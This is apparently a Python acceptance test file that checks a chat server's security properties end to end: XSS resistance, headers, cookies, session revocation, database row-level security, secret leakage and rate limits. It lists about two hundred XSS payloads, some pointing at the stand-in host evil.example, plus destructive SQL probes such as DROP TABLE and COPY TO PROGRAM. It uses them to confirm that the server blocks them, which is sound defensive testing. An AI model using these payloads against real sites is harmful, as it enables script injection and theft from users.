"""The security list of docs/security.md over the whole product: what the tests of no single part can show."""

import asyncio
import itertools
import json
import re
import uuid
from html.parser import HTMLParser

import aiohttp
import asyncpg
import pytest

from chatserver.web.headers import REPORTS_PATH
from tests.acceptance.test_strangers import ROUTES, Asker
from tests.support import access_checks
from tests.support import product as products
from tests.support.people import run_sql, run_sql_as
from tests.support.story import Refusal, sign_up

# Requests need three words of their own; the rest of what a browser says is in the Asker.
SAME_ORIGIN = {"Sec-Fetch-Site": "same-origin"}


# 200 payloads (18, 19) --------------------------------------------------------------------------------------------

MARKS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>", "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<math><mtext></mtext><mglyph><style><img src onerror=1>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<form action=//evil.example><button>x",
    "<object data=data:text/html,x>", "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>",
    "<video poster=//evil.example>", "<style>@import '//evil.example'</style>",
    "<noscript><p title='</noscript><img src=x onerror=1>'>",
]  # fmt: skip
BREAKS = ["{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "--><!-- -->{}", "</template>{}"]
LINKS = [
    "[x]({}:alert(1))", "<{}:alert(1)>", "![x]({}:alert(1))", '[x]({}:alert(1) "t")', "[x][r]\n\n[r]: {}:alert(1)",
]  # fmt: skip
SCHEMES = [
    "javascript",
    "JaVaScRiPt",
    "java\tscript",
    "&#106;avascript",
    "data",
    "vbscript",
    "&#x6A;avascript",
    "\\javascript",
]
ODD = [
    "![pixel](https://evil.example/p.png)", "[![x](https://evil.example/a.png)](https://evil.example)",
    "[honest](https://evil.example)", "<https://evil.example>", "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=1>`", "{{ 7*7 }}", "{% raw %}", "${7*7}", "\u202egnp.exe", "&lt;script&gt;", "%3Cscript%3E",
    "\\<script\\>", "<!--<img src=x onerror=1>-->", "<![CDATA[<script>]]>", "a\u2028<script>", "<scr\u200bipt>",
    "[x](//evil.example)", "[x](/sign-out)", "|<b>|\n|---|\n|<img src=x onerror=1>|", "# <script>", "> <script>",
]  # fmt: skip
PAYLOADS = [
    *(outer.format(mark) for mark in MARKS for outer in BREAKS),
    *(link.format(scheme) for link in LINKS for scheme in SCHEMES),
    *ODD,
]
SCHEMES_OF_LINKS = ("http://", "https://", "mailto:")


class Page(HTMLParser):
    """Reads HTML as a browser does and notes whatever it would run, load from elsewhere, or be led astray by."""

    def __init__(self, text):
        super().__init__()
        self.faults, self._in_script = [], False
        self.feed(text)

    def handle_starttag(self, tag, pairs):
        attributes = {name: value or "" for name, value in pairs}
        self._in_script = tag == "script"
        self.faults += [f"{tag} {name}" for name in attributes if name.startswith("on") or name in {"style", "srcdoc"}]
        if tag in {"iframe", "object", "embed", "base", "applet", "frame", "math", "animate", "style"}:
            self.faults.append(tag)
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            self.faults.append("meta refresh")
        for name in ("src", "srcset", "poster", "data", "action", "formaction"):
            # Of our own; "/" alone could be the "//" of somebody else.
            if name in attributes and not re.match(r"/(?!/)|$|data:image/webp;base64,", attributes[name]):
                self.faults.append(f"{tag} {name}={attributes[name]}")
        self._judge_link(tag, attributes)

    def _judge_link(self, tag, attributes):
        href = re.sub(r"[\x00-\x20]", "", attributes.get("href", ""))
        if re.match(r"[a-z][a-z0-9+.-]*:", href, re.I) and not href.lower().startswith(SCHEMES_OF_LINKS):
            self.faults.append(f"{tag} href={href}")
        if "evil.example" in href and attributes.get("rel") != "noopener noreferrer nofollow":
            self.faults.append(f"a link to elsewhere without rel: {href}")
        if tag == "link" and "evil" in href:
            self.faults.append(f"link {href}")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.faults.append(f"inline script: {data[:60]}")


@pytest.fixture
async def unhurried(own_database_url, tmp_path_factory):
    """A server on which one person may say two hundred things in a second."""
    settings = {"DATABASE_URL": own_database_url, "COMMANDS_PER_10_SECONDS": "0", "REPLIES_PER_HOUR": "0"}
    async with products.running(tmp_path_factory.mktemp("unhurried"), **settings) as process:
        yield process


async def test_18_two_hundred_payloads_in_every_field_stay_text_on_every_page_and_in_every_frame(unhurried):
    product = unhurried
    assert len(set(PAYLOADS)) >= 200
    ada = await sign_up(product, "Ada")
    asker = await Asker(product, ada).signs_in()
    session = await ada.buys("pro", PAYLOADS[0])
    pages = await ada.joins(session, subprotocol="chat.v1.html")
    said = await asyncio.gather(*(_says_all(ada, session, some) for some in _shares(PAYLOADS, 4)))
    prompts = ["\n".join(some) for some in _shares(PAYLOADS, 14)]
    made = [await _asks_for(ada, session, prompt) for prompt in prompts]
    for payload in PAYLOADS[::16]:
        name = {"name": payload[:60].replace("\n", " ").replace("\t", " "), "csrf_token": asker.csrf}
        await asker.client.post("/settings/name", data=name, headers=SAME_ORIGIN, allow_redirects=False)
        await ada.call("PATCH", f"/sessions/{session['id']}", {"title": payload[:110]})
    for message in made:
        await _ended(ada, message)
    faults, read = {}, 0
    for path in ("/", "/sessions", "/history", "/settings", "/plans", f"/plans?session={session['id']}",
                 f"/sessions/{session['id']}", f"/invite/{await ada.invites(session)}"):  # fmt: skip
        text = (await asker.browser.visit(path)).text
        faults |= {path: Page(text).faults}
    before = "ffffffff-ffff-7fff-bfff-ffffffffffff"
    while before:
        text = (await asker.browser.visit(f"/sessions/{session['id']}/messages?before={before}")).text
        faults |= {f"before {before}": Page(text).faults}
        more = re.search(r'data-before="([^"]+)"', text)
        before = more[1] if more and more[1] < before else ""
    for event in pages.events:
        if event["type"] == "message":
            read += 1
            faults |= {f"frame {event['seq']}": Page(event["html"]).faults}
    assert read >= len(PAYLOADS)
    assert sum(said) == len(PAYLOADS)
    assert {where: found for where, found in faults.items() if found} == {}
    stored = await ada.call("GET", "/generations?limit=200")
    names = [asset["filename"] for each in stored["generations"] for asset in each["assets"]]
    assert names
    assert all(re.fullmatch(r"[a-z0-9-]+\.png", name) for name in names)
    await pages.leaves()
    await asker.client.close()


def _shares(items, count):
    return [items[start::count] for start in range(count)]


async def _says_all(person, session, texts):
    for text in texts:
        body = {"client_id": str(uuid.uuid4()), "text": text}
        await person.call("POST", f"/sessions/{session['id']}/messages", body)
    return len(texts)


async def _asks_for(person, session, prompt):
    body = {"client_id": str(uuid.uuid4()), "kind": "image", "prompt": prompt[:2000], "width": 64, "height": 64}
    return (await person.call("POST", f"/sessions/{session['id']}/generations", body))["message"]


async def _ended(person, message):
    async with asyncio.timeout(90):
        while True:
            found = await person.call("GET", f"/generations?session_id={message['session_id']}&limit=200")
            mine = [each for each in found["generations"] if each["message_id"] == message["id"]]
            if all(each["status"] in {"done", "failed"} for each in mine):
                return mine
            await asyncio.sleep(0.1)


# Every answer (2, 3, 14–17) ---------------------------------------------------------------------------------------


async def test_14_to_17_every_answer_has_its_headers_whatever_is_asked(product):
    policy = None
    async with aiohttp.ClientSession(product.url) as client:
        for route in ROUTES:
            method, _, path = route.partition(" ")
            path = re.sub(r"\{[^}]*\}", "00000000-0000-7000-8000-000000000000", path)
            headers = {"Origin": "https://evil.example", "Accept": "text/html", "Access-Control-Request-Method": "GET"}
            for verb in {method, "OPTIONS"}:
                async with client.request(verb, path, headers=headers, allow_redirects=False) as answer:
                    told = {name.lower(): value for name, value in answer.headers.items()}
                assert told["x-content-type-options"] == "nosniff", route
                assert told["referrer-policy"] == "same-origin", route
                assert told["cross-origin-opener-policy"] == "same-origin", route
                assert told["cross-origin-resource-policy"] == "same-origin", route
                assert not [name for name in told if name.startswith("access-control-")], route
                if not path.startswith("/files/"):
                    policy = policy or told["content-security-policy"]
                    assert told["content-security-policy"] == policy, route
                assert "server" not in told or "uvicorn" not in told["server"], route
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    assert rules["default-src"] == rules["frame-ancestors"] == rules["base-uri"] == "'none'"
    assert rules["script-src"] == rules["style-src"] == "'self'"
    assert "unsafe" not in policy
    assert rules["report-uri"] == REPORTS_PATH


async def test_15_a_foreign_name_is_answered_by_nothing_but_the_probes(product):
    async with aiohttp.ClientSession(product.url) as client:
        for path in ("/", "/sign-in", "/api/v1/plans", "/static/x/y.js"):
            async with client.get(path, headers={"Host": "evil.example"}) as answer:
                assert answer.status == 421, path
                text = await answer.text()
                # A program is told as of any other error.
                told = json.loads(text)["error"]["message"] if path.startswith("/api/") else text.strip()
                assert told == "This server does not answer to that name. Set PUBLIC_URL to it."
        ws = client.ws_connect("/ws/sessions/x", headers={"Host": "evil.example"})
        with pytest.raises(aiohttp.WSServerHandshakeError):
            async with ws:
                pass


async def test_2_and_3_behind_tls_cookies_are_bound_to_the_host_and_browsers_stay(own_database_url, tmp_path):
    settings = {"DATABASE_URL": own_database_url, "PUBLIC_URL": "https://pictures.example.org"}
    async with (
        products.running(tmp_path, **settings) as product,
        aiohttp.ClientSession(product.url, headers={"Host": "pictures.example.org"}) as client,
    ):
        page = await client.get("/sign-in")
        assert int(page.headers["Strict-Transport-Security"].removeprefix("max-age=")) >= 31_536_000
        token = re.search(r'name="csrf_token" value="([^"]+)"', await page.text())[1]
        visitor = page.cookies["__Host-visitor"].value
        ada = await sign_up(product, "Ada")
        form = {"email": ada.user["email"], "password": ada.password, "csrf_token": token}
        headers = {"Cookie": f"__Host-visitor={visitor}", "Origin": "https://pictures.example.org"}
        answer = await client.post("/sign-in", data=form, headers=headers, allow_redirects=False)
        assert answer.status == 303, await answer.text()
        for cookie in answer.headers.getall("Set-Cookie"):
            assert cookie.startswith("__Host-")
            assert all(part in cookie for part in ("Secure", "HttpOnly", "SameSite=lax", "Path=/"))
            assert "Domain" not in cookie


# What ends is ended (5, 6, 7) -------------------------------------------------------------------------------------


async def _socket(asker, session):
    return await asker.client.ws_connect(
        f"{asker.product.ws_url}/ws/sessions/{session['id']}", headers={"Origin": asker.product.url}
    )


async def _closed_within(socket, seconds):
    async with asyncio.timeout(seconds):
        while not socket.closed:
            await socket.receive()
    return socket.close_code


@pytest.mark.parametrize("how", ["sign-out", "password", "reset elsewhere", "ban"])
async def test_7_what_ends_a_sign_in_closes_its_sockets_within_five_seconds(product, database, how):
    ada = await sign_up(product, "Ada")
    session = await ada.buys()
    here, there = await Asker(product, ada).signs_in(), await Asker(product, ada).signs_in()
    socket = await _socket(there, session)
    if how == "sign-out":
        await there.asks("POST /sign-out", "/sign-out", {})
    elif how == "password":
        form = {"current_password": ada.password, "new_password": f"new-{uuid.uuid4()}"}
        assert (await here.asks("POST /", "/settings/password", form))[0] == 303
    elif how == "reset elsewhere":
        assert (await here.asks("POST /", "/settings/sign-ins/end-others", {}))[0] == 303
    else:
        # Nobody is told: it is found by the look that every process has at its sockets.
        await run_sql(database, "UPDATE users SET status = 'banned' WHERE id = $1", ada.id)
    # A loaded machine gets two seconds on top of the promise.
    assert await _closed_within(socket, 7) == (4512 if how == "ban" else 4501)
    assert (await there.asks("GET /", "/sessions", None))[0] == 303
    await here.client.close()
    await there.client.close()


async def test_6_and_27_rights_are_checked_with_each_command(product, database):
    ada, bob = await sign_up(product, "Ada"), await sign_up(product, "Bob")
    session = await ada.buys()
    await bob.accepts(await ada.invites(session))
    chat = await bob.joins(session)
    await chat.says("I am in")
    await access_checks.has_passed(product, database)
    await run_sql(database, "UPDATE session_members SET left_at = now() WHERE user_id = $1", bob.id)
    with pytest.raises(Refusal) as refusal:
        await chat.says("Am I still?")
    assert refusal.value.code == "not-found"
    await chat.leaves()


# The database as a second lock (22, 24) ---------------------------------------------------------------------------


async def test_22_a_stranger_reads_and_writes_nothing_even_by_hand_written_sql(product, database):
    ada, eve = await sign_up(product, "Ada"), await sign_up(product, "Eve")
    session = await ada.buys()
    chat = await ada.joins(session)
    await chat.sees_ended(await chat.generates("a boat", width=64, height=64))
    await ada.invites(session)
    await chat.leaves()
    tables = await run_sql(
        database,
        "SELECT c.relname AS name, c.relrowsecurity AND c.relforcerowsecurity AS locked FROM pg_class c"
        " WHERE c.relkind = 'r' AND c.relnamespace = 'public'::regnamespace"
        " AND EXISTS (SELECT 1 FROM pg_attribute a WHERE a.attrelid = c.oid AND a.attname IN ('user_id', 'session_id'))",
    )
    assert len(tables) >= 10
    assert [table["name"] for table in tables if not table["locked"]] == []
    for name in [table["name"] for table in tables]:
        columns = [
            row["attname"]
            for row in await run_sql(
                database,
                "SELECT attname FROM pg_attribute WHERE attrelid = $1::regclass AND attnum > 0"
                " AND attname IN ('user_id', 'session_id')",
                f"public.{name}",
            )
        ]
        owner = {"user_id": ada.id, "session_id": session["id"]}[columns[-1]]
        for statement in (
            f"SELECT 1 FROM {name} WHERE {columns[-1]} = $1",
            f"UPDATE {name} SET {columns[-1]} = {columns[-1]} WHERE {columns[-1]} = $1 RETURNING 1",
            f"DELETE FROM {name} WHERE {columns[-1]} = $1 RETURNING 1",
        ):
            try:
                assert await run_sql_as(database, eve.id, statement, owner) == [], statement
            except asyncpg.InsufficientPrivilegeError:
                continue


async def test_24_the_daily_roles_change_no_schema_and_no_books(product, database):
    ada = await sign_up(product, "Ada")
    session = await ada.buys()
    chat = await ada.joins(session)
    await chat.generates("a boat", width=64, height=64)
    for statement in (
        "UPDATE credit_entries SET number = number",
        "DELETE FROM credit_entries",
        "TRUNCATE credit_entries",
        "DROP TABLE credit_entries",
        "ALTER TABLE users DISABLE ROW LEVEL SECURITY",
        "CREATE TABLE mine (id int)",
        "CREATE FUNCTION mine() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "SET ROLE postgres",
        "COPY users TO PROGRAM 'cat'",
    ):
        for run in (run_sql, lambda db, sql: run_sql_as(db, ada.id, sql)):
            with pytest.raises(asyncpg.PostgresError):
                await run(database, statement)
    roles = await run_sql(
        database, "SELECT rolname FROM pg_roles WHERE rolname LIKE 'chatserver%' AND (rolbypassrls OR rolsuper)"
    )
    assert [row["rolname"] for row in roles if row["rolname"] in {"chatserver_web", "chatserver_worker"}] == []
    await chat.leaves()


# Secrets (40, 41, 42) ---------------------------------------------------------------------------------------------


async def test_40_no_secret_is_found_in_any_log_answer_or_frame(own_database_url, own_database, tmp_path):
    canaries = {
        "SECRET_KEY": "canary-signing-key",
        "HF_TOKEN": "hf_canarytoken",
        "CHAT_API_KEY": "canary-chat-key",
        "IMAGE_API_KEY": "canary-image-key",
    }
    # Nothing of what they are for is reachable: every way of failing is tried with them.
    settings = {
        "PROVIDERS": "huggingface,sketch",
        "HF_ROUTER_URL": "http://127.0.0.1:9",
        "HF_ENDPOINT": "http://127.0.0.1:9",
        "CHAT_BASE_URL": "http://127.0.0.1:9/v1",
        "CHAT_MODEL": "none",
        "LOG_LEVEL": "debug",
    }
    heard = []
    async with products.running(tmp_path, DATABASE_URL=own_database_url, **settings, **canaries) as product:
        ada, eve = await sign_up(product, "Ada"), await sign_up(product, "Eve")
        session = await ada.buys("flash", 'A title\r\n{"event": "forged"}')
        asker = await Asker(product, ada).signs_in()
        cookie = next(iter(asker.client.cookie_jar)).value
        chats = [await ada.joins(session, subprotocol=form) for form in ("chat.v1.json", "chat.v1.html")]
        await chats[0].says("canary-words of the session")
        picture = await chats[0].generates("canary-prompt of a boat", width=64, height=64)
        await chats[0].sees_ended(picture)
        await chats[0].sees(lambda each: each["author"]["kind"] == "assistant" and each["status"] != "streaming")
        pages = ("/", "/settings", "/history", f"/sessions/{session['id']}", "/nothing", "/settings/export")
        heard += [(await asker.browser.visit(path)).text for path in pages]
        calls = ("/sessions", "/generations", "/tokens", "/users/me")
        heard += [json.dumps(await ada.call("GET", path)) for path in calls]
        for path, body in (
            ("/tokens", {"email": ada.user["email"], "password": f"wrong-{ada.password}"}),
            ("/users", {}),
        ):
            with pytest.raises(Refusal) as refusal:
                await eve.call("POST", path, body)
            heard.append(json.dumps(refusal.value.error))
        await eve.call("DELETE", f"/tokens/{(await eve.call('GET', '/tokens'))['tokens'][0]['id']}")
        async with aiohttp.ClientSession(product.url) as client:
            open_to_all = ("/readyz", "/metrics", "/api/v1/openapi.json", "/api/v1/asyncapi.json")
            heard += [await (await client.get(path)).text() for path in open_to_all]
            # The log is one line for each thing, whatever is in an address.
            await client.get("/nothing%0d%0a%7b%22event%22%3a%22forged%22%7d")
        heard += [json.dumps(chat.events) for chat in chats]
        for chat in chats:
            await chat.leaves()
        await asker.client.close()
        await product.stop()
        log = product.output()
    secrets = [*canaries.values(), ada.password, ada.token, eve.token, cookie, f"wrong-{ada.password}"]
    for secret, text in itertools.product(secrets, heard):
        assert secret not in text
    for secret in [*secrets, "canary-words", "canary-prompt", ada.user["email"], "password_hash", "$argon2"]:
        assert secret not in log, secret
    lines = [json.loads(line) for line in log.splitlines()]
    assert not [line for line in lines if line["event"] == "forged"]
    assert not re.search(r"argon2|password_hash|token_hash", "".join(heard))


# Limits (25) ------------------------------------------------------------------------------------------------------


async def test_25_sockets_and_commands_are_limited_for_each_person(product):
    ada = await sign_up(product, "Ada")
    session = await ada.buys()
    chats = [await ada.joins(session) for _ in range(5)]
    asker = Asker(product, ada)
    assert await asker.socket_code(session["id"]) == 4429
    refs = [await chat.send("typing") for _ in range(6) for chat in chats]
    codes = []
    for number, ref in enumerate(refs):
        reply = await chats[number % 5].hears(lambda event, ref=ref: event["type"] == "reply" and event["ref"] == ref)
        codes.append("ok" if reply["ok"] else reply["error"]["code"])
    assert codes.count("ok") == 20
    assert codes.count("rate-limited") == 10
    for chat in chats:
        await chat.leaves()
    await asker.client.close()
